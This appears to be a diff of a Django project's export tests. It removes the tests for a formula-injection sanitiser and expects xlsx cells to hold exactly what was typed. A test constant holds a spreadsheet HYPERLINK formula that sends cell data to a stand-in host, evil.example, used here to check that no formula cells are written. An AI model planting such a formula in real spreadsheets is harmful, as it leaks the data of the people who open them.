@@ -8,7 +8,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from enlace.core.exports import safe_cell, xlsx_cell
+from enlace.core.exports import xlsx_cell
 from enlace.core.models import Visibility
 from enlace.followup.services import commitment_add_note, commitment_update_status
 from tests.conftest import client_for
@@ -30,36 +30,10 @@ HEADERS_EN = [
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Ver")'
 
 
-# --- safe_cell -------------------------------------------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("value", "expected"),
-    [
-        ("=1+1", "'=1+1"),
-        ("+34 600", "'+34 600"),
-        ("-2+3", "'-2+3"),
-        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
-        ("\t=1+1", "'\t=1+1"),
-        ("\r=1+1", "'\r=1+1"),
-        ("Enviar el documento", "Enviar el documento"),
-        ("a=b", "a=b"),
-        ("", ""),
-        (None, None),
-        (42, 42),
-        (-3.5, -3.5),
-        (dt.date(2016, 8, 8), dt.date(2016, 8, 8)),
-        (True, True),
-    ],
-)
-def test_safe_cell(value, expected):
-    assert safe_cell(value) == expected
-
-
 def test_xlsx_cell_drops_characters_excel_cannot_hold():
     assert xlsx_cell("línea\x0bnueva\x00") == "línea nueva "
     assert xlsx_cell("tab\tand\nnew line") == "tab\tand\nnew line"
-    assert xlsx_cell("=1") == "'=1"
+    assert xlsx_cell("=1") == "=1"  # a text cell, never a formula: no quote needed
 
 
 # --- the exports -----------------------------------------------------------------------------------------------
@@ -164,10 +138,10 @@ def test_xlsx(iom_analyst, meetings):
     assert row[1].value == dt.datetime(2026, 6, 8) and row[1].is_date
     assert row[6].value.date() == days(-10) and row[6].is_date
     assert [row[2].value, row[4].value, row[8].value, row[9].value] == ["3.a", "IOM", "In progress", "yes"]
-    assert row[10].value == "'-Última nota, con guion"
+    assert row[10].value == "-Última nota, con guion"  # exactly what was typed
     formula = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[3].value))
-    assert formula[3].value == "'" + FORMULA and formula[3].data_type == "s"
-    assert formula[0].value == "'@Reunión con fórmula"
+    assert formula[3].value == FORMULA and formula[3].data_type == "s"
+    assert formula[0].value == "@Reunión con fórmula"
     assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)
 
 
